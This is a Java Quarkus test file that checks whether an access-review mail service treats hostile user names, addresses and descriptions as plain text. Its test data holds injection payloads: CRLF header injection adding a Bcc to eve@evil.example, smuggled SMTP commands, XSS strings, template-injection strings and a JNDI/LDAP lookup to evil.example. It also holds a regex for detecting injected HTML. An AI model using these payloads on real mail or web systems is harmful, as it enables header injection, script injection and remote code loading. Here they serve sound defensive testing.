package accessreviews.notifications.arrival;

import static java.util.stream.Collectors.joining;
import static org.assertj.core.api.Assertions.assertThat;

import accessreviews.testing.rows.Organisation;
import accessreviews.testing.servers.ReceivedMail;
import com.fasterxml.jackson.databind.node.TextNode;
import io.quarkus.test.junit.QuarkusTest;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Predicate;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Addresses, names and descriptions that would be more than text: each mail arrives at one address,
 * with the headers that every mail has, or is listed as failed.
 */
@QuarkusTest
class HostileTextsHttpTest extends MailHttpTest {
  private static final String EVIL = "eve@evil.example";
  private static final Pattern HTML_OF_OTHERS =
      Pattern.compile(
          "<(script|img|iframe|svg|object|b)\\b|\\bon(error|load)\\s*=\\s*[\"']?alert\\(1\\)[\"']?[^&]*>|href=(?!\"https?://[^/]+/reviews/)",
          Pattern.CASE_INSENSITIVE);

  static Stream<OddAddress> addresses() {
    return OddAddress.all();
  }

  @ParameterizedTest
  @MethodSource("addresses")
  void aMailGoesToOneAddressOrIsListedAsFailed(OddAddress odd) {
    Organisation.users("ada", "good");
    Organisation.group("staff", "ada");
    var body =
        "{\"id\":\"%s\",\"displayName\":\"odd\",\"userPrincipalName\":\"odd\",\"mail\":%s}"
            .formatted(Organisation.id("odd"), new TextNode(odd.address()));
    var answer = json(body).post("/v1.0/users").then().extract();
    if (answer.statusCode() != 201) {
      assertThat(answer.statusCode()).isEqualTo(400);
      assertThat(odd.isUsual()).as("refused by the directory").isFalse();
      return;
    }

    reviewBy("odd");

    oneMailOrFailed(odd);
  }

  /** The directory has it from a file, and as the name to sign in with. */
  @Test
  void addressesOfAFileAreTreatedTheSame() {
    Organisation.users("ada", "good");
    Organisation.group("staff", "ada");
    for (var odd : addresses().toList()) {
      var address = odd.address();
      if (address.codePointCount(0, address.length()) > 256 || address.isBlank()) {
        continue;
      }
      server.reset();
      rows.execute("delete from notice");
      Organisation.importFile(
          "users",
          "id,displayName,userPrincipalName,mail\n%s,odd,\"%s\",\n"
              .formatted(Organisation.id("odd"), address.replace("\"", "\"\"")));

      reviewBy("odd");

      oneMailOrFailed(odd);
    }
  }

  private static void reviewBy(String reviewer) {
    start(reviewOf("staff", user(reviewer), user("good")).with("settings", mailing(3)));
  }

  private void oneMailOrFailed(OddAddress tried) {
    var address = tried.address();
    assertThat(server.attempts()).as(address).doesNotContain(EVIL);
    var good = one(mail -> mail.equals("good@contoso.com"));
    assertThat(good).as("the mail for somebody else").hasSize(1);
    var odd = one(mail -> !mail.equals("good@contoso.com"));
    var failed = failed();
    if (odd.isEmpty()) {
      assertThat(failed).as(address).containsExactly(Organisation.id("odd"));
      assertThat(tried.isUsual()).as(address + " is not reached").isFalse();
      return;
    }
    assertThat(failed).as(address).isEmpty();
    assertThat(odd).as(address).hasSize(1);
    assertThat(names(odd.getFirst())).as(address).isEqualTo(names(good.getFirst()));
    var mail = ArrivedMail.of(odd.getFirst());
    assertThat(mail.to()).doesNotContain(EVIL);
    if (tried.isUsual()) {
      assertThat(mail.to()).isEqualToIgnoringCase(address);
    }
  }

  private List<ReceivedMail> one(Predicate<String> recipient) {
    return server.received().stream().filter(mail -> recipient.test(mail.to())).toList();
  }

  /** The names of the headers, in their order. */
  private static List<String> names(ReceivedMail mail) {
    return mail.headers().stream().map(line -> line.replaceFirst(":.*", "")).toList();
  }

  static Stream<String> texts() {
    return Stream.of(
        "line\r\nBcc: eve@evil.example\r\n\r\n<script>alert(1)</script>",
        "line\nSubject: other\n\nbody",
        "\r\n.\r\nMAIL FROM:<a@b>\r\nRCPT TO:<eve@evil.example>\r\n",
        "\u2028\u2029\u0085\u000bBcc: eve@evil.example",
        "<script>alert(1)</script><img src=x onerror=alert(1)>",
        "\"><svg/onload=alert(1)>",
        "</title></style><b>bold</b>",
        "{inject:vertx} {user.id} {#include x/} ${jndi:ldap://evil.example/a} {cdi:config}",
        "=?utf-8?B?PHNjcmlwdD4=?= =?utf-8?q?eve?=",
        "javascript:alert(1) http://evil.example/reviews/x",
        "\ud83d\ude00\u202eright to left\u0000".replace("\u0000", ""),
        "a\u0301\u0302\u0303".repeat(60),
        "x".repeat(4_000),
        "\ud83d\ude00".repeat(2_000),
        "word ".repeat(799) + "word",
        "\u00e4".repeat(4_000));
  }

  @ParameterizedTest
  @MethodSource("texts")
  void whatUsersWriteIsTextInAMail(String text) {
    Organisation.users("ada", "good");
    Organisation.group("staff", "ada");
    reviewBy("good");
    var usual = server.received().getFirst();
    server.reset();
    var name = cut(text, 200);
    post(
        "/v1.0/users",
        "{\"id\":\"%s\",\"displayName\":%s,\"userPrincipalName\":\"odd@contoso.com\"}"
            .formatted(Organisation.id("odd"), new TextNode(name)));
    post(
        "/v1.0/groups",
        "{\"id\":\"%s\",\"displayName\":%s}"
            .formatted(Organisation.id("oddities"), new TextNode(name)));
    Organisation.join("oddities", "ada");

    start(
        reviewOf("oddities", user("odd"))
            .with("displayName", new TextNode(name).toString())
            .with("descriptionForReviewers", new TextNode(text).toString())
            .with("settings", mailing(3)));

    assertThat(server.received()).hasSize(1);
    var odd = server.received().getFirst();
    assertThat(names(odd)).isEqualTo(names(usual));
    var mail = ArrivedMail.of(odd);
    assertThat(mail.to()).isEqualTo("odd@contoso.com");
    assertThat(mail.subject()).doesNotContain("\r", "\n").startsWith("Review access: ");
    assertThat(mail.subject().codePointCount(0, mail.subject().length())).isLessThan(255);
    assertThat(mail.reviews()).hasSize(1);
    assertThat(HTML_OF_OTHERS.matcher(mail.html()).results().map(found -> found.group()).toList())
        .as(mail.html())
        .isEmpty();
    var described = new ArrayList<>(List.of(mail.text(), mail.html()));
    assertThat(described)
        .allSatisfy(part -> assertThat(longestRun(part, text)).isLessThanOrEqualTo(256));
    assertThat(odd.content().lines().mapToInt(String::length).max().orElse(0))
        .as("the longest line, which SMTP allows 998 characters")
        .isLessThanOrEqualTo(998);
  }

  /** How many of the first character of {@code text} follow one another, if it has no other. */
  private static long longestRun(String part, String text) {
    var first = text.substring(0, text.offsetByCodePoints(0, 1));
    if (!text.replace(first, "").isEmpty()) {
      return 0;
    }
    return Pattern.compile("(?:" + Pattern.quote(first) + "\\s?)+")
        .matcher(part)
        .results()
        .mapToLong(run -> run.group().split(Pattern.quote(first), -1).length - 1)
        .max()
        .orElse(0);
  }

  private static String cut(String text, int codePoints) {
    return text.codePoints().limit(codePoints).mapToObj(Character::toString).collect(joining());
  }

  private static void post(String path, String body) {
    json(body).post(path).then().statusCode(201);
  }
}
